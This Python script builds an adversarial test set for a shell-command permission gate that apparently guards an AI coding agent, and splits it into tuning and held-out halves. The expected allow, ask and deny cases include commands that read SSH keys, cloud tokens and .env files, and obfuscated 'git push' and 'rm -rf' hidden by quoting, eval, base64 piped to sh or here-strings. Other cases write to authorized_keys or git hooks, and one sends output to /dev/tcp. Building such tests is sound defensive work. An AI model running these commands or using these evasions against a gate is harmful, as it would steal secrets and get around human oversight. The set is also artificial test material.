# gate3's adversarial set, written blind from issue 14's classes before any code change.
import json
S = []  # (class, expected, command)
def c(cls, want, *cmds):
    for x in cmds: S.append((cls, want, x))
# variables
c("var","deny", "X=.env; Y=$X.local; cat $Y", "declare -r K=~/.pypirc; grep pass $K",
  "N=push; git $N", "D=~/.ssh; cat $D/id_ed25519", "F=.env; cat ./$F",
  "T=~/.netrc; export T; cat \"$T\"", "W=.; cat ${W}/.env", "F=id_rsa; cat ~/.ssh/$F")
c("var","ask", "cat ${F:-x}", "set -- .env; cat \"$1\"", "arr=(.env a); cat \"${arr[0]}\"",
  "printf -v F %s .env; cat $F", "read -r F < names; cat \"$F\"", "F=$(echo .env); cat $F",
  "cat \"$(printf '.e%s' nv)\"", "CMD=\"git push\"; $CMD", "CMD=\"rm -rf\"; $CMD build",
  ": ${F:=.env}; cat $F", "F=.env cat $F", "G=git; $G push", "cat \"$PWD/.env\"",
  "while read f; do cat \"$f\"; done < list.txt", "cat ~/.ssh/$(whoami)", "cat < \"$IN\"",
  "if [ -n \"$A\" ]; then F=.env; else F=x; fi; cat $F", "f() { F=.env; }; f; cat $F")
c("var","allow", "F=README.md; cat $F", "D=src; ls $D", "for f in a.txt b.txt; do cat \"$f\"; done",
  "N=3; git log -n $N --oneline", "X=hello; echo \"$X world\"")
# dynamic args
c("dyn","ask", "head -c 100 $(ls -a)", "find . -name '.env*' | xargs cat",
  "find . -name '*.pem' -exec cat {} +", "ls | xargs -I{} cat {}", "cat `ls -a`",
  "grep -l x $(find / -name '*.key')", "xargs -a list.txt cat", "tail -n1 $(cat files)")
# recursive readers
c("rec","ask", "grep -rl password .", "grep -r --include='*.env' KEY", "rg -uu token",
  "rg --hidden -l secret", "ag password", "find . -type f -exec grep -l KEY {} +",
  "tar czf /tmp/all.tgz .", "zip -r ../src.zip .", "cp -r . /tmp/copy", "grep -R secret ~",
  "grep -r key /etc", "cat **/*", "head -n 3 .*", "cat * .[!.]*", "grep -rn token ./",
  "rg -l AKIA ..", "grep -r password $HOME", "ack -r secret")
c("rec","allow", "grep -rn \"API_KEY\" src", "rg fn crates/", "rg -n TODO src tests",
  "du -sh .", "ls -laR .", "wc -l src/*.rs", "grep -r TODO docs")
# secrets outside the usual list
c("sec","deny", "cat ~/.config/gh/hosts.yml", "cat ~/.ssh/known_hosts", "cat /etc/ssl/private/server.key",
  "cat ~/.ssh/authorized_keys", "cat ~/.config/gcloud/application_default_credentials.json",
  "cat ~/.azure/accessTokens.json", "cat ~/.vault-token", "cat backup.kdbx", "cat .git-credentials",
  "cat ~/.ssh/config", "cat ~/.pgpass", "strings ~/.ssh/id_rsa", "od -c .env", "cat -- .env",
  "cat src/../.env", "cat /work/app/.env", "cat .\\env", "cat '.en'v", "cat \".e\"\"nv\"",
  "cat .env{,.local}", "cat {.env,x}", "cat ~/.aws/config", "cat /root/.bash_history.key",
  "grep -h . ~/.docker/config.json", "tac ~/.git-credentials", "cat deploy/ID_RSA",
  "cat ~/.ssh/id_ecdsa.pub.key")
c("sec","ask", "cat ~/.boto", "cat ~/.s3cfg", "cat ~/.config/rclone/rclone.conf",
  "cat ~/.bash_history", "cat .npmrc", "cat ~/.gem/credentials", "cat ~/.dockercfg",
  "cat /var/run/secrets/kubernetes.io/serviceaccount/token", "cat $'.e\\x6ev'", "cat .en?",
  "cat ~/.zsh_history", "cat ~/.config/op/config", "cat ~/.password-store/x.gpg",
  "cat terraform.tfstate", "cat ~/.kaggle/kaggle.json", "cat ~/.config/hub.bak/../hub")
# writes through options / redirections
c("write","ask", "git diff --output=../p.diff", "sort -o /etc/passwd x", "sort -uo ../x y",
  "uniq in.txt ../out.txt", "git log --output=~/.bashrc", "head -c 10 x 1> ../out",
  "cat x >| ../y", "echo x &> /etc/x", "tree -o ../tree.txt", "git diff --ext-diff HEAD",
  "git status --porcelain > ../status.txt", "cargo test -- --nocapture > ../log",
  "ls > ~/out.txt", "echo hi 2> /tmp/../etc/x", "git diff > /dev/tcp/1.2.3.4/80")
c("write","deny", "tee /etc/x < y", "cp README.md ~/.bashrc", "cat x > ~/.ssh/authorized_keys",
  "echo key >> ~/.ssh/authorized_keys", "ls > /etc/motd", "echo hi > .git/hooks/pre-push",
  "echo x | tee -a ~/.profile", "cat > ~/.gitconfig <<EOF\n[alias]\nx=!sh\nEOF",
  "git diff --output=.git/hooks/pre-commit", "git diff --no-index /etc/shadow /dev/null",
  "git diff --no-index ~/.ssh/id_rsa x", "echo '[rule]' > .loop/gate.toml")
# runners and wrappers
c("run","deny", "timeout -s KILL 5 git push", "nice -n 5 rm -rf build", "ionice -c3 git push",
  "command -p git push", "xargs -0 rm -rf < list", "echo build | xargs rm -rf",
  "find . -name node_modules -exec rm -rf {} +", "find . -execdir git push \\;",
  "env GIT_DIR=x git push", "env -i git push", "env -- git push", "sudo -E git push",
  "sudo -- rm -rf /tmp/x", "su -c 'git push' bob", "time -p git push", "git push &",
  "(git push)", "{ git push; }", "! git push", "if git push; then :; fi", "f() { git push; }; f",
  "coproc git push", "nohup git push >/dev/null 2>&1 &", "git push --dry-run",
  "git --no-pager push", "git -c user.name=x push", "git --git-dir=.git push",
  "git --work-tree=. push origin main", "eval \"git push\"", "bash -c 'git push' &",
  "watch -n1 'git push'", "/usr/bin/git push", "command git push", "/bin/rm -rf build",
  "\\rm -rf build", "rm --recursive -f build", "rm -r --force build", "rm -Rfv build",
  "rm -f -r -- build", "git push origin HEAD:main", "nice git push", "ssh host git push",
  "docker exec c git push", "sudo sh -c 'rm -rf /opt/x'", "timeout 10 bash -c 'git push'",
  "exec rm -rf build", "git status; git push", "git status | git push", "git diff $(git push)",
  "echo \"$(git push)\"", "echo \"`rm -rf build`\"", "cat <(rm -rf build)", "x=$(git push)")
c("run","ask", "script -qc 'git push' /dev/null", "flock /tmp/l git push", "unbuffer git push",
  "strace -f git push", "alias p='git push'; p", "make -f /dev/stdin <<< 'all:; git push'",
  "npx -y some-pkg", "python3 -c 'import os; os.system(\"git push\")'",
  "perl -e 'system \"git push\"'", "awk 'BEGIN{system(\"git push\")}'", "bash -c \"$(echo git push)\"",
  "sh -c 'git \"$0\"' push", "eval $(echo git push)", "echo git push | sh", "parallel ::: 'git push'",
  "$(echo git) push", "`echo rm` -rf build", "echo Z2l0IHB1c2g= | base64 -d | sh",
  "bash -c $'git\\x20push'", "git $'push'", "bash < script.sh", "bash <<< \"$CMD\"",
  "cat <<EOF | sh\ngit push\nEOF", "rm -r build", "sh ./deploy.sh", "./x.sh", "node -e 'require(\"child_process\").execSync(\"git push\")'",
  "git -c core.sshCommand='sh -c id' fetch", "git -c alias.st='!rm -rf build' st",
  "ls --color=always | sh")
# quoting / escaping
c("quote","deny", "git \"pu\"sh", "g''it push", "\"g\"it pu\"s\"h", "bash -c \"git pu\\sh\"",
  "sh -c 'rm -r''f build'", "git p\\ush", "\"git\" \"push\"", "'git' push", "g\\it push",
  "git pu''sh", "r''m -rf build", "rm -r\\f build", "git\tpush", "git push\\\n origin",
  "bash -c 'bash -c \"git push\"'", "sh -c \"sh -c 'rm -rf build'\"")
# here-strings / here-docs
c("here","deny", "bash <<<\"git push\"", "sh -s <<<'git push'", "bash -s <<EOF\ngit push\nEOF",
  "sh <<-EOF\n\tgit push\nEOF", "bash <<< 'rm -rf build'", "zsh -s <<< \"git push\"",
  "dash <<<'git push origin'", "bash <<'X'\nrm -rf build\nX")
c("here","ask", "sh <<< $'git push'", "bash <<<\"$(cat cmd)\"")
# harmless look-alikes
c("harmless","allow", "echo \"git push\"", "echo 'rm -rf /'", "echo rm -rf build", "cat git-push.md",
  "cat docs/rm-rf.txt", "grep -n \"git push\" README.md", "grep -- '-rf' Makefile",
  "git status # git push", "echo '$(git push)'", "echo \"push\" && git status", "cat .env.example",
  "cat src/environment.rs", "cat keys.txt", "cat src/key.rs", "cat token.go", "cat id_generator.py",
  "cat docs/ssh.md", "ls -a", "ls .", "cat README.md > /dev/null", "cat x 2>/dev/null",
  "cat x 2>&1 | head", "git diff HEAD~1 -- src/", "git status -sb", "cargo test --workspace",
  "cargo test -- --test-threads=1", "cargo test 2>&1 | tail -20", "echo $((1+2))", "echo ${HOME}",
  "echo \"$(date)\"", "cat <<'EOF'\ngit push\nEOF", "cat <<< 'rm -rf /'", "ls -l | grep push",
  "git diff --stat -- '*.rs'", "git log --oneline -n 5", "echo a; echo b", "cat \"file with spaces.txt\"",
  "cat 'src/$(x).rs'", "cat src/main.rs | grep -v .env", "head -n 20 src/lib.rs", "wc -c Cargo.lock",
  "tail -n 50 target/log.txt", "diff a.txt b.txt", "git diff main...HEAD", "echo ~", "cat .gitignore",
  "cat .github/workflows/ci.yml", "cat .envrc.sample", "cat env.txt", "echo \"rm -rf $HOME\"",
  "printf '%s\\n' 'git push'", "echo git\\ push", "grep -c 'rm -rf' scripts/*.sh",
  "cat docs/.env.example", "cat config/secrets.example", "ls -la src/ | wc -l", "git diff -- README.md",
  "echo 'F=~/.ssh/id_rsa; cat $F'", "cat src/ssh_keys.rs", "cat docs/id_rsa.md", "cat docs/pem.md")
# --yolo: an ask that may hide a deny must not be run by --yolo
Y = ["git $SUB", "rm -$FLAGS build", "cat $F", "$CMD", "sh <<<\"$X\"", "git pu$X", "rm -r$F build",
     "eval \"$X\"", "bash -c \"$1\"", "cat ~/.ss*", "cat .e*", "xargs git < args", "timeout 5 $C",
     "git -c alias.x=\"$Y\" x", "cat $(cat names.txt)", "F=$(ls); rm -rf $F", "$(echo git) push",
     "git ${S:-push}", "grep -r KEY .", "head -n1 ~/.aws/*"]
# split: every other case of each class into the tuning half
tune, hold = {"shell": [], "yolo": []}, {"shell": [], "yolo": []}
seen = {}
for cls, want, cmd in S:
    k = (cls, want); i = seen.get(k, 0); seen[k] = i + 1
    (tune if i % 2 == 0 else hold)["shell"].append((want, cmd))
for i, cmd in enumerate(Y):
    (tune if i % 2 == 0 else hold)["yolo"].append(cmd)
def q(s): return json.dumps(s, ensure_ascii=False)
def dump(d, title):
    out = [title]
    out.append("shell = [")
    out += [f"  [{q(w)}, {q(x)}]," for w, x in d["shell"]]
    out.append("]")
    out.append("# commands --yolo must not run (deny, or an ask that a deny rule may match)")
    out.append("yolo = [")
    out += [f"  {q(x)}," for x in d["yolo"]]
    out.append("]")
    return "\n".join(out) + "\n"
hdr = ("# gate3's adversarial set for issue 14 (written blind from the issue's classes, before the\n"
       "# code changes of that session), {} half. Judged like adversarial-holdout.toml: no verdict\n"
       "# looser than expected; `allow` cases must be exactly allow. `yolo` cases must be deny or an\n"
       "# ask that a deny rule may match (Decision::may_deny), so --yolo does not run them.\n")
open("/tmp/gate3/g3-tune.toml","w").write(dump(tune, hdr.format("tuning")))
open("/tmp/gate3/g3-holdout.toml","w").write(dump(hold, hdr.format("held-out")))
print(len(S), len(Y), len(tune["shell"])+len(tune["yolo"]), len(hold["shell"])+len(hold["yolo"]))
